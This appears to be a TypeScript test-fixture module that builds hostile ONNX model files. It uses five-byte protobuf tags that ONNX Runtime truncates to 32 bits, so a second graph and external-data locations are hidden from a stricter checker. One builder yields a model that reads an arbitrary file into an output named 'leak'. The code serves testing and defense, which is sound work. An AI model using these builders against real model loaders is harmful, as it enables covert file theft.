/**
 * Hostile ONNX models that hide fields from a reader that does not read tags as protobuf does. Protobuf's C++
 * parser (ONNX Runtime's) reads a tag of five bytes and keeps its low 32 bits, so a tag whose varint is 2^32 + t
 * is read as tag t; a reader that keeps the whole value reads another field number and skips the field. A singular
 * message field given twice (a second `graph`) is merged into the first: its nodes, initializers and outputs are
 * appended.
 */
import { create, toBinary } from '@bufbuild/protobuf';
import {
  GraphProtoSchema,
  ModelProtoSchema,
  StringStringEntryProtoSchema,
  TensorProto_DataLocation,
  TensorProtoSchema,
  type ModelProto,
} from 'onnx-buf';
import { defaultModelProto, externalTensor } from '../helpers.js';

const WIRE_VARINT = 0;
const WIRE_LENGTH_DELIMITED = 2;

/** A varint of exactly `size` bytes (padded with continuation bytes) holding `value`, which may exceed 2^32. */
export function longVarint(value: bigint, size: number): Uint8Array {
  const bytes: number[] = [];
  let rest = value;
  for (let i = 0; i < size; i++) {
    const last = i === size - 1;
    bytes.push(Number(rest & 0x7fn) | (last ? 0 : 0x80));
    rest >>= 7n;
  }
  if (rest !== 0n) throw new Error(`${value} does not fit ${size} varint bytes`);
  return Uint8Array.from(bytes);
}

/** The canonical varint of `value`. */
export function varint(value: bigint | number): Uint8Array {
  let rest = BigInt(value);
  const bytes: number[] = [];
  do {
    const low = Number(rest & 0x7fn);
    rest >>= 7n;
    bytes.push(rest === 0n ? low : low | 0x80);
  } while (rest !== 0n);
  return Uint8Array.from(bytes);
}

export function concat(...parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

/**
 * The tag of `field` as a five-byte varint whose value is 2^32 higher than the real tag: ONNX Runtime reads
 * `field`, a reader that keeps 64 bits reads field `field + 2^29`.
 */
export function aliasedTag(field: number, wireType: number): Uint8Array {
  return longVarint((1n << 32n) + BigInt(field * 8 + wireType), 5);
}

/** A length-delimited field: `tag` (given as bytes, canonical or not), the payload's length, the payload. */
export function lengthDelimited(tag: Uint8Array, payload: Uint8Array): Uint8Array {
  return concat(tag, varint(payload.length), payload);
}

export const canonicalTag = (field: number, wireType: number): Uint8Array => varint(field * 8 + wireType);

/**
 * The default model plus a second `graph` field under an aliased tag: it adds an initializer `stolen` whose bytes
 * ONNX Runtime reads from `location` (relative to the working directory for a model given as bytes), and an output
 * `leak` that returns them.
 */
export function hiddenGraphModel(location: string, byteLength: number): Uint8Array {
  const hidden = create(GraphProtoSchema, {
    initializer: [externalTensor('stolen', [byteLength / 4], location)],
    node: [{ opType: 'Identity', input: ['stolen'], output: ['leak'], name: 'leak_node' }],
    output: [
      {
        name: 'leak',
        type: {
          value: {
            case: 'tensorType',
            value: { elemType: 1, shape: { dim: [{ value: { case: 'dimValue', value: BigInt(byteLength / 4) } }] } },
          },
        },
      },
    ],
  });
  return concat(
    toBinary(ModelProtoSchema, defaultModelProto()),
    lengthDelimited(aliasedTag(7, WIRE_LENGTH_DELIMITED), toBinary(GraphProtoSchema, hidden)),
  );
}

/**
 * The default model whose first convolution's weights keep no bytes of their own and say, under aliased tags, that
 * they live in `location`: the tensor is plainly in the graph, its `external_data` and `data_location` are not.
 */
export function hiddenLocationModel(weightName: string, location: string): Uint8Array {
  const model: ModelProto = defaultModelProto();
  const graph = model.graph!;
  const weight = graph.initializer.find((t) => t.name === weightName)!;
  graph.initializer = graph.initializer.filter((t) => t !== weight);
  const plain = create(TensorProtoSchema, { name: weight.name, dims: weight.dims, dataType: weight.dataType });
  const length = weight.dims.reduce((a, b) => a * b, 1n) * 4n;
  const entries = [
    ['location', location],
    ['offset', '0'],
    ['length', String(length)],
  ].map(([key, value]) =>
    lengthDelimited(
      aliasedTag(13, WIRE_LENGTH_DELIMITED),
      toBinary(StringStringEntryProtoSchema, create(StringStringEntryProtoSchema, { key, value })),
    ),
  );
  const tensor = concat(
    toBinary(TensorProtoSchema, plain),
    ...entries,
    aliasedTag(14, WIRE_VARINT),
    varint(TensorProto_DataLocation.EXTERNAL),
  );
  const graphBytes = concat(
    toBinary(GraphProtoSchema, graph),
    lengthDelimited(canonicalTag(5, WIRE_LENGTH_DELIMITED), tensor),
  );
  model.graph = undefined;
  return concat(toBinary(ModelProtoSchema, model), lengthDelimited(canonicalTag(7, WIRE_LENGTH_DELIMITED), graphBytes));
}
